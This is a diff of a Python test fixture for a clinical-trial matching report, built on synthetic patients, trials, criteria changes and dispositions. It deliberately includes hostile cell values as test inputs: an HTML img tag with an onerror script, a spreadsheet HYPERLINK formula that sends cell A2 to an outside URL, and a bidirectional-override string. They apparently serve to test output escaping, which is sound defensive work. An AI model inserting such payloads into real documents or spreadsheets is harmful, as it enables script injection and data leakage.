@@ -7,7 +7,7 @@ from typing import Any, Final
 
 import polars as pl
 
-from matcher.report import SCHEMAS, Night, TrialSheet
+from matcher.report import SCHEMAS, CriterionSheet, Night, TrialSheet
 
 AS_OF: Final = date(2026, 11, 20)
 
@@ -17,61 +17,6 @@ IMAGE: Final = "<img src=x onerror=\"document.title='owned'\">"
 FORMULA: Final = '=HYPERLINK("https://example.org/?p="&A2,"open")'
 TURNED: Final = "ECOG \u202e1\u202c as dictated"
 CHINESE: Final = "肺腺癌，右上肺，EGFR 19号外显子缺失（-）"
-
-TRIALS: Final = (
-    TrialSheet(
-        trial_id="NCT06749886",
-        title="Tislelizumab, denosumab and chemotherapy after immunotherapy in driver-negative "
-        "advanced NSCLC, second line",
-        status="unknown",
-        status_label="status not stated",
-        list_kind="candidates",
-        notes=(
-            "The document doesn’t say on which day the three months without progression begin.",
-            "Item 3 allows other drivers where no first-line therapy is approved: asked in person.",
-        ),
-        n_by_verdict={"eligible": 1, "possible": 4, "later": 2, "ineligible": 1873},
-        n_deceased=341,
-        complete=True,
-        source="1-tislelizumab-denosumab-NCT06749886.txt",
-    ),
-    TrialSheet(
-        trial_id="tislelizumab-anlotinib-pilot",
-        title="Tislelizumab with anlotinib after progression on immunotherapy: a pilot study",
-        status="unknown",
-        status_label="status not stated",
-        list_kind="candidates",
-        notes=(),
-        n_by_verdict={"eligible": 0, "possible": 2, "ineligible": 1878},
-        n_deceased=341,
-        complete=False,
-        source="2-tislelizumab-anlotinib-pilot.txt",
-    ),
-    TrialSheet(
-        trial_id="NCT06505837",
-        title="JS001sc or JS001 with chemotherapy, first line, non-squamous NSCLC",
-        status="active_not_recruiting",
-        status_label="active, not recruiting",
-        list_kind="watch list",
-        notes=(),
-        n_by_verdict={"eligible": 1, "possible": 0, "later": 0, "ineligible": 1879},
-        n_deceased=341,
-        complete=True,
-        source="5-js001sc-NCT06505837.txt",
-    ),
-    TrialSheet(
-        trial_id="oligoresidual-radiotherapy",
-        title="Consolidation radiotherapy of oligoresidual disease",
-        status="recruiting",
-        status_label="recruiting",
-        list_kind="candidates",
-        notes=(),
-        n_by_verdict={"ineligible": 1880},
-        n_deceased=341,
-        complete=True,
-        source="4-oligoresidual-radiotherapy.txt",
-    ),
-)
 
 # criterion id: section, source item, text
 CRITERIA: Final[dict[str, tuple[str, str, str]]] = {
@@ -91,6 +36,79 @@ CRITERIA: Final[dict[str, tuple[str, str, str]]] = {
     "infection": ("exclusion", "12", "Anti-infective drugs by vein or mouth within 7 days"),
     "judgement": ("exclusion", "14", "Unsuitable in the investigator’s judgement"),
 }
+
+BY_PERSON: Final = {"consent", "judgement"}
+
+
+def _criteria_sheets(*chosen: str) -> tuple[CriterionSheet, ...]:
+    return tuple(
+        CriterionSheet(
+            criterion,
+            *CRITERIA[criterion],
+            answered_by="person" if criterion in BY_PERSON else "record",
+            note="Worth a question to the sponsor." if criterion == "infection" else None,
+        )
+        for criterion in chosen
+    )
+
+
+TRIALS: Final = (
+    TrialSheet(
+        trial_id="NCT06749886",
+        title="Tislelizumab, denosumab and chemotherapy after immunotherapy in driver-negative "
+        "advanced NSCLC, second line",
+        status="unknown",
+        status_label="status not stated",
+        list_kind="candidates",
+        notes=(
+            "The document doesn’t say on which day the three months without progression begin.",
+            "Item 3 allows other drivers where no first-line therapy is approved: asked in person.",
+        ),
+        n_by_verdict={"eligible": 1, "possible": 4, "later": 2, "ineligible": 1873},
+        n_deceased=341,
+        complete=True,
+        source="1-tislelizumab-denosumab-NCT06749886.txt",
+        criteria=_criteria_sheets(*CRITERIA),
+    ),
+    TrialSheet(
+        trial_id="tislelizumab-anlotinib-pilot",
+        title="Tislelizumab with anlotinib after progression on immunotherapy: a pilot study",
+        status="unknown",
+        status_label="status not stated",
+        list_kind="candidates",
+        notes=(),
+        n_by_verdict={"eligible": 0, "possible": 2, "ineligible": 1878},
+        n_deceased=341,
+        complete=False,
+        source="2-tislelizumab-anlotinib-pilot.txt",
+        criteria=_criteria_sheets("nsclc", "no-driver", "ecog"),
+    ),
+    TrialSheet(
+        trial_id="NCT06505837",
+        title="JS001sc or JS001 with chemotherapy, first line, non-squamous NSCLC",
+        status="active_not_recruiting",
+        status_label="active, not recruiting",
+        list_kind="watch list",
+        notes=(),
+        n_by_verdict={"eligible": 1, "possible": 0, "later": 0, "ineligible": 1879},
+        n_deceased=341,
+        complete=True,
+        source="5-js001sc-NCT06505837.txt",
+        criteria=_criteria_sheets(*CRITERIA),
+    ),
+    TrialSheet(
+        trial_id="oligoresidual-radiotherapy",
+        title="Consolidation radiotherapy of oligoresidual disease",
+        status="recruiting",
+        status_label="recruiting",
+        list_kind="candidates",
+        notes=(),
+        n_by_verdict={"ineligible": 1880},
+        n_deceased=341,
+        complete=True,
+        source="4-oligoresidual-radiotherapy.txt",
+    ),
+)
 
 Answer = tuple[str, str, str | None, str, list[dict[str, Any]]]
 
@@ -246,16 +264,136 @@ def _candidate_rows() -> list[tuple[Any, ...]]:
     later = "Levofloxacin ended on 2026-11-18: the washout is over on 2026-11-25."
     conflict = "EGFR is reported wild-type on 2026-03-09 and with p.L858R on 2026-05-30."
     return [
-        (first, 1, "AJ07793T", "eligible", 0.97, 13, 0, 0, 2, None, "new", "Nothing is open."),
-        (first, 2, "AK61411S", "possible", 0.91, 12, 0, 1, 2, None, "unchanged", wait),
-        (first, 3, "患者-0042", "possible", 0.88, 11, 0, 2, 2, None, "was eligible", conflict),
-        (first, 4, FORMULA, "possible", 0.71, 9, 0, 4, 2, None, "new", "Four to look up."),
-        (first, 5, "A/B #7 ?&", "possible", 0.70, 9, 0, 4, 2, None, None, hostile),
-        (first, 6, "BX90210Q", "later", 0.66, 12, 1, 0, 2, day, "new", later),
-        (first, 7, "BX90211R", "later", 0.61, 8, 1, 4, 2, day, "unchanged", later),
-        (second, 1, "AJ07793T", "possible", 0.4, 2, 0, 1, 0, None, "unchanged", "Drivers unknown."),
-        (second, 2, "AK61411S", "possible", None, 2, 0, 1, 0, None, None, None),
-        (watched, 1, "CX00001A", "eligible", 0.93, 13, 0, 0, 2, None, "unchanged", "All known."),
+        (
+            first,
+            1,
+            "AJ07793T",
+            "eligible",
+            0.97,
+            13,
+            0,
+            0,
+            2,
+            None,
+            "new",
+            "Nothing is open.",
+            None,
+            False,
+        ),
+        (
+            first,
+            2,
+            "AK61411S",
+            "possible",
+            0.91,
+            12,
+            0,
+            1,
+            2,
+            None,
+            "same",
+            wait,
+            "to_review",
+            False,
+        ),
+        (
+            first,
+            3,
+            "患者-0042",
+            "possible",
+            0.88,
+            11,
+            0,
+            2,
+            2,
+            None,
+            "down",
+            conflict,
+            "contacted",
+            False,
+        ),
+        (
+            first,
+            4,
+            FORMULA,
+            "possible",
+            0.71,
+            9,
+            0,
+            4,
+            2,
+            None,
+            "new",
+            "Four to look up.",
+            None,
+            False,
+        ),
+        (
+            first,
+            5,
+            "A/B #7 ?&",
+            "possible",
+            0.70,
+            9,
+            0,
+            4,
+            2,
+            None,
+            "changed",
+            hostile,
+            None,
+            False,
+        ),
+        (first, 6, "BX90210Q", "later", 0.66, 12, 1, 0, 2, day, "up", later, None, False),
+        (
+            first,
+            7,
+            "BX90211R",
+            "later",
+            0.61,
+            8,
+            1,
+            4,
+            2,
+            day,
+            "same",
+            later,
+            "screen_failed",
+            True,
+        ),
+        (
+            second,
+            1,
+            "AJ07793T",
+            "possible",
+            0.4,
+            2,
+            0,
+            1,
+            0,
+            None,
+            "same",
+            "Drivers unknown.",
+            None,
+            False,
+        ),
+        (second, 2, "AK61411S", "possible", None, 2, 0, 1, 0, None, None, None, None, False),
+        (
+            watched,
+            1,
+            "CX00001A",
+            "eligible",
+            0.93,
+            13,
+            0,
+            0,
+            2,
+            None,
+            "same",
+            "All known.",
+            None,
+            False,
+        ),
     ]
 
 
@@ -289,6 +427,137 @@ def _near_miss_rows() -> list[tuple[Any, ...]]:
     ]  # fmt: skip
 
 
+def _moved(criterion: str, before: str, status: str, cause: str, what: str) -> dict[str, str]:
+    section, item, text = CRITERIA[criterion]
+    return {
+        "criterion_id": criterion,
+        "section": section,
+        "source_item": item,
+        "text": text,
+        "status_before": before,
+        "status": status,
+        "cause": cause,
+        "what": what,
+    }
+
+
+def _change_rows() -> list[tuple[Any, ...]]:
+    first, second = "NCT06749886", "tislelizumab-anlotinib-pilot"
+    cured = _moved(
+        "anc",
+        "fail",
+        "pass",
+        "data",
+        "Neutrophils 3.1 × 10⁹/L of 2026-11-17 (labs, row 118) are new.",
+    )
+    driver = _moved(
+        "no-driver", "pass", "unknown", "data", f"A report of 2026-05-30 is new: {IMAGE}"
+    )
+    window = _moved(
+        "ecog", "pass", "unknown", "calendar", "ECOG 1 of 2026-10-22 is now older than 28 days."
+    )
+    limit = _moved(
+        "platelets", "pass", "fail", "criteria", "Platelets: at least 80 became at least 100."
+    )
+    word = _moved(
+        "nsclc", "unknown", "pass", "vocabulary", f"The text “{SCRIPT}” is now read as LUAD."
+    )
+    others = "Better placed patients came onto the list; nothing of this patient has changed."
+    return [
+        (first, "AJ07793T", "new", None, 1, None, "eligible", "data", cured["what"], [cured]),
+        (first, FORMULA, "new", None, 4, "ineligible", "possible", "vocabulary", word["what"], [word]),
+        (first, "GONE-001", "gone", 3, None, "possible", "ineligible", "criteria", limit["what"],
+         [limit]),
+        (first, "GONE-002", "gone", 7, None, "later", "later", "others", others, []),
+        (first, "BX90210Q", "up", 9, 6, "later", "later", "data", cured["what"], [cured]),
+        (first, "患者-0042", "down", 1, 3, "eligible", "possible", "data", driver["what"], [driver]),
+        (first, "A/B #7 ?&", "changed", 5, 5, "possible", "possible", "calendar", window["what"],
+         [window]),
+        (second, "GONE-003", "gone", 1, None, "possible", None, "disposition",
+         "Marked as not interested on 2026-11-19.", []),
+    ]  # fmt: skip
+
+
+def _missing_rows() -> list[tuple[str, ...]]:
+    first, second = "NCT06749886", "tislelizumab-anlotinib-pilot"
+    egfr = ("biomarker", "EGFR", "EGFR", "conflict")
+    ecog = ("observation", "ecog", "ECOG", "stale")
+    lesion = ("lesion", "lesions", "measurable lesions", "not_recorded")
+    creatinine = ("lab", "creatinine", "creatinine", "unit")
+    return [
+        (first, "AK61411S", "ecog", *ecog),
+        (first, "患者-0042", "no-driver", *egfr),
+        (first, "患者-0042", "ecog", *ecog),
+        *(
+            (first, FORMULA, criterion, *fact)
+            for criterion, fact in (
+                ("no-driver", egfr),
+                ("ecog", ecog),
+                ("measurable", lesion),
+                ("creatinine-clearance", creatinine),
+            )
+        ),
+        (first, "A/B #7 ?&", "measurable", *lesion),
+        (first, "BX90211R", "ecog", *ecog),
+        (second, "AJ07793T", "no-driver", *egfr),
+    ]
+
+
+def _to_find_out_rows() -> list[tuple[Any, ...]]:
+    first, second = "NCT06749886", "tislelizumab-anlotinib-pilot"
+    return [
+        (1, "observation", "ecog", "ECOG", 4, 2, 4, ["AK61411S", "患者-0042", FORMULA, "BX90211R"],
+         [first]),
+        (2, "biomarker", "EGFR", "EGFR", 3, 2, 3, ["AJ07793T", "患者-0042", FORMULA],
+         [first, second]),
+        (3, "lesion", "lesions", "measurable lesions", 2, 1, 2, ["A/B #7 ?&", FORMULA], [first]),
+        (4, "lab", "creatinine", "creatinine", 1, 1, 1, [FORMULA], [first]),
+    ]  # fmt: skip
+
+
+def _status_rows() -> list[tuple[Any, ...]]:
+    first, second, watched = "NCT06749886", "tislelizumab-anlotinib-pilot", "NCT06505837"
+    day = date(2026, 11, 25)
+    return [
+        ("AJ07793T", first, "eligible", None, None, "ppppppppppmpppm"),
+        ("AJ07793T", second, "possible", None, None, "pup"),
+        ("AJ07793T", watched, "ineligible", "immunotherapy", None, "pppfppppppmpppm"),
+        ("BX90210Q", first, "later", "infection", day, "ppppppppppmppfm"),
+        ("BX90210Q", second, "ineligible", "nsclc", None, "fup"),
+        ("BX90210Q", watched, "ineligible", "nsclc", None, "pffpppuuppmpupm"),
+        (FORMULA, first, "possible", None, None, "ppuppupppumpppm"),
+    ]
+
+
+def _disposition_rows() -> list[tuple[Any, ...]]:
+    trial, source = "NCT06749886", "worklist.xlsx"
+    returned = f"ECOG was 2 when this was entered and is 1 now: {SCRIPT}"
+    return [
+        (trial, "AK61411S", "to_review", None, date(2026, 11, 19), "MK", None, False, None, source),
+        (trial, "患者-0042", "contacted", None, date(2026, 11, 18), "李", "Ring again on Monday.", False,
+         None, source),
+        (trial, "BX90211R", "screen_failed", FORMULA, date(2026, 11, 12), "MK", IMAGE, True, None,
+         source),
+        (trial, "A/B #7 ?&", "not_eligible", "ECOG 2", date(2026, 11, 2), "MK", None, False, returned,
+         source),
+    ]  # fmt: skip
+
+
+def _history_rows() -> list[tuple[Any, ...]]:
+    trial, source = "NCT06749886", "worklist.xlsx"
+    first = (trial, "AK61411S", "contacted", None, date(2026, 11, 10), "MK", "No answer.", source)
+    latest = sorted(_disposition_rows(), key=lambda row: row[4])
+    return [first, *((*row[:7], row[9]) for row in latest)]
+
+
+def _accuracy_rows() -> list[tuple[Any, ...]]:
+    return [
+        (None, "sensitivity", 60, 0.91, 0.79, 0.97),
+        (None, "precision", 48, 0.75, 0.6, 0.86),
+        ("NCT06749886", "precision", 30, 0.8, 0.61, 0.92),
+    ]
+
+
 def build_night(**changes: Any) -> Night:
     """A night of four trials: eligible, possible and later patients, near misses, hostile cells."""
     parts: dict[str, Any] = {
@@ -301,9 +570,11 @@ def build_night(**changes: Any) -> Night:
         "funnel": _frame(
             "funnel",
             [
-                ("NCT06749886", "nsclc", CRITERIA["nsclc"][2], 1204, 611, 65, 3),
-                ("NCT06749886", "ecog", CRITERIA["ecog"][2], 310, 88, 1482, 1),
-                ("NCT06749886", "consent", CRITERIA["consent"][2], 0, 0, 0, 0),
+                ("NCT06749886", "adult", CRITERIA["adult"][2], 1880, 0, 0, 0, 0, 1880),
+                ("NCT06749886", "nsclc", CRITERIA["nsclc"][2], 1204, 611, 65, 3, 611, 1269),
+                ("NCT06749886", "ecog", CRITERIA["ecog"][2], 310, 88, 1482, 1, 61, 1208),
+                ("NCT06749886", "anc", CRITERIA["anc"][2], 1102, 420, 358, 40, 187, 1021),
+                ("NCT06749886", "consent", CRITERIA["consent"][2], 0, 0, 0, 0, 0, 1021),
             ],
         ),
         "normalization": _frame(
@@ -335,6 +606,16 @@ def build_night(**changes: Any) -> Night:
             [("labs", row, "a month outside 1 to 12", "measured_on") for row in range(3, 40, 2)]
             + [("treatments", 9, "dated after the patient’s index date", "started_on")],
         ),
+        "changes": _frame("changes", _change_rows()),
+        "missing": _frame("missing", _missing_rows()),
+        "to_find_out": _frame("to_find_out", _to_find_out_rows()),
+        "statuses": _frame("statuses", _status_rows()),
+        "dispositions": _frame("dispositions", _disposition_rows()),
+        "disposition_history": _frame("disposition_history", _history_rows()),
+        "blind_sample": _frame(
+            "blind_sample", [("NCT06749886", "BLIND-7"), ("NCT06749886", "AK61411S")]
+        ),
+        "accuracy": _frame("accuracy", _accuracy_rows()),
         "counts": {
             "patients": {"rows_in": 2221, "rows_used": 2221, "rows_quarantined": 0},
             "labs": {"rows_in": 88412, "rows_used": 88393, "rows_quarantined": 19},
@@ -360,7 +641,7 @@ def build_large_night(*, trials: int = 5, patients: int = 200, criteria: int = 4
             )
             candidates.append(
                 (trial, number + 1, patient, verdict, 1 - number / patients, 22, 1, 12, 5, until,
-                 "new", why)
+                 "new", why, None, False)
             )  # fmt: skip
             rows += _large_pair(trial, patient, number, criteria)
     return build_night(
@@ -368,7 +649,14 @@ def build_large_night(*, trials: int = 5, patients: int = 200, criteria: int = 4
         candidates=_frame("candidates", candidates),
         criteria=_frame("criteria", rows),
         near_misses=_frame("near_misses", []),
+        **{name: _frame(name, []) for name in _OF_A_HOSPITAL},
     )
+
+
+_OF_A_HOSPITAL: Final = (
+    *("changes", "missing", "to_find_out", "statuses", "dispositions", "disposition_history"),
+    *("blind_sample", "accuracy"),
+)
 
 
 def _large_sheet(name: str, patients: int) -> TrialSheet:
